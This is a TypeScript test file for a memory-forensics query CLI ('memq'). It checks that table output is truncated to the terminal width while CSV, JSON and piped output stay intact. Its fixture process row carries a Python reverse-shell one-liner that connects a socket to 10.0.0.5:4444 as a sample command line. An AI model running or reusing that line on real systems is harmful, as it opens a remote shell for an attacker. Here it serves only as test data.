// #14 terminal output: a table fits $COLUMNS on a terminal (the widest text columns cut with "…",
// numbers and addresses never), and nothing is cut when the output is piped or a machine format.
// The CLI case runs `memq query` under a pseudo-terminal (util-linux `script`).
import * as fs from 'node:fs';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';
import { render, terminalWidth } from '../../lib/cli/output';
import { tempDir, writeStore } from '../engine/fixture-store';

const BIN = path.resolve(__dirname, '../../bin/memq.js');
const LONG = '/usr/bin/python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.5",4444));os.dup2(s.fileno(),0)';
const rows = [
  { process_id: 1, name: 'systemd', exe_path: '/usr/lib/systemd/systemd', command_line: '/sbin/init splash', object_address: 0xffff888004a8c000n },
  { process_id: 4242, name: 'python3', exe_path: '/usr/bin/python3.11', command_line: LONG, object_address: 0xffff888004a90000n },
];
const cols = ['process_id', 'name', 'exe_path', 'command_line', 'object_address'];

describe('render with a width', () => {
  test('no width: full cells, however long', () => {
    expect(render(rows, cols, 'table')).toContain(LONG);
  });
  test('fits the width by cutting the widest text column with …; numbers and addresses intact', () => {
    for (const width of [120, 100, 80]) {
      const lines = render(rows, cols, 'table', width).trimEnd().split('\n');
      expect(Math.max(...lines.map((l) => l.length))).toBeLessThanOrEqual(width);
      expect(lines[3]).toMatch(/…/);
      expect(lines[3]).toMatch(/^4242 +python3 /);
      expect(lines[3]).toContain('0xffff888004a90000');
      expect(lines[2]).toContain('0xffff888004a8c000');
    }
    // wide enough: nothing cut
    expect(render(rows, cols, 'table', 400)).toContain(LONG);
  });
  test('text columns are cut no narrower than their header or 8; then the table overflows', () => {
    const out = render(rows, cols, 'table', 20).trimEnd().split('\n');
    expect(out[0]).toContain('command_line');
    expect(out[3]).toContain('0xffff888004a90000');
  });
  test('json and csv are never cut', () => {
    expect(render(rows, cols, 'csv', 40)).toContain(LONG.replace(/"/g, '""'));
    expect(JSON.parse(render(rows, cols, 'json', 40))[1].command_line).toBe(LONG);
  });
  test('terminalWidth: $COLUMNS on a terminal, none when not a terminal', () => {
    const saved = process.env.COLUMNS;
    try {
      process.env.COLUMNS = '77';
      expect(terminalWidth({ isTTY: true, columns: 200 })).toBe(77);
      expect(terminalWidth({ isTTY: false, columns: 200 })).toBeUndefined();
      delete process.env.COLUMNS;
      expect(terminalWidth({ isTTY: true, columns: 132 })).toBe(132);
      expect(terminalWidth({ isTTY: true })).toBe(80);
    } finally {
      if (saved === undefined) delete process.env.COLUMNS;
      else process.env.COLUMNS = saved;
    }
  });
});

describe('memq query on a terminal and piped', () => {
  let dir: string;
  beforeAll(async () => {
    dir = tempDir('memq-width-');
    await writeStore(dir, [
      { ref: { project: 'p', machine: 'm', snapshot: 's' }, rows: { process: rows.map((r) => ({ ...r, parent_process_id: 1, argv: r.command_line.split(' ') })) } },
    ]);
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  const args = (extra: string[] = []) => ['query', 'process.process_object.process_id > 0', '--store', dir, ...extra];
  /** runs the CLI with stdout on a pseudo-terminal; returns what the terminal showed */
  function onTerminal(columns: number, extra: string[] = []): string {
    const cmd = [process.execPath, BIN, ...args(extra)].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
    const r = spawnSync('script', ['-qec', cmd, '/dev/null'], { encoding: 'utf8', env: { ...process.env, COLUMNS: String(columns), MEMQ_PROGRESS: '0' } });
    expect(r.status).toBe(0);
    return r.stdout.replace(/\r\n/g, '\n');
  }

  test('on a terminal the table fits $COLUMNS', () => {
    const out = onTerminal(90);
    const table = out.split('\n').filter((l) => /^(project|-|p )/.test(l));
    expect(table.length).toBe(4);
    expect(Math.max(...table.map((l) => l.length))).toBeLessThanOrEqual(90);
    expect(out).toContain('…');
    expect(out).not.toContain(LONG);
  });
  test('piped, or with a machine format on a terminal, nothing is cut', () => {
    const piped = spawnSync(process.execPath, [BIN, ...args()], { encoding: 'utf8', env: { ...process.env, COLUMNS: '90', MEMQ_PROGRESS: '0' } });
    expect(piped.status).toBe(0);
    expect(piped.stdout).toContain(LONG);
    expect(piped.stdout).not.toContain('…');
    expect(onTerminal(90, ['--format', 'csv'])).toContain(LONG.replace(/"/g, '""'));
  });
});
